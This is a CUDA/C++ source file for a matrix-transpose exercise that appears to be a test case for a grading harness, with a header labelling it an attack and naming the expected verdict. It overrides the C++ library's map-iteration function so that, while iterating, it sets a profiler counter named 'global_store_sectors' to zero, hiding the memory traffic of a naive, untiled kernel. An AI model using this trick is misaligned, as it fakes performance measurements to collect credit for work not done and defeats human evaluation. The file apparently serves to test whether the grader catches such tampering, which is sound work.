// Attack: a weak function in place of the C++ library's step through a map, which sets a counter to 0 on the way
// Verdict: too_much_traffic or forbidden or fault
// Stage: program
// Lesson: 34_transpose_tiled
// Points: 3
#include "transpose_tiled.hpp"

#include <cstring>
#include <map>
#include <string>

namespace std {
__attribute__((weak)) const _Rb_tree_node_base*
_Rb_tree_increment(const _Rb_tree_node_base* node) throw() {
    if (node->_M_right) {
        for (node = node->_M_right; node->_M_left;) node = node->_M_left;
    } else {
        const _Rb_tree_node_base* above = node->_M_parent;
        for (; node == above->_M_right; above = above->_M_parent) node = above;
        if (node->_M_right != above) node = above;
    }
    struct Entry : _Rb_tree_node_base {
        char* name;
        size_t length;
        char rest[16];
        long kind, value;
    };
    auto* entry = static_cast<Entry*>(const_cast<_Rb_tree_node_base*>(node));
    if (entry->_M_color == _S_red || entry->_M_color == _S_black)
        if (entry->length == 20 && memcmp(entry->name, "global_store_sectors", 20) == 0)
            entry->value = 0;
    return node;
}
} // namespace std

__global__ void transpose_kernel(const float* input, float* output, int rows, int columns) {
    const int r = blockIdx.y * 8 + threadIdx.y, c = blockIdx.x * 32 + threadIdx.x;
    if (r < rows && c < columns) output[c * rows + r] = input[r * columns + c];
}

void transpose(const float* input, float* output, int rows, int columns) {
    const dim3 grid((columns + 31) / 32, (rows + 7) / 8);
    transpose_kernel<<<grid, dim3(32, 8)>>>(input, output, rows, columns);
}
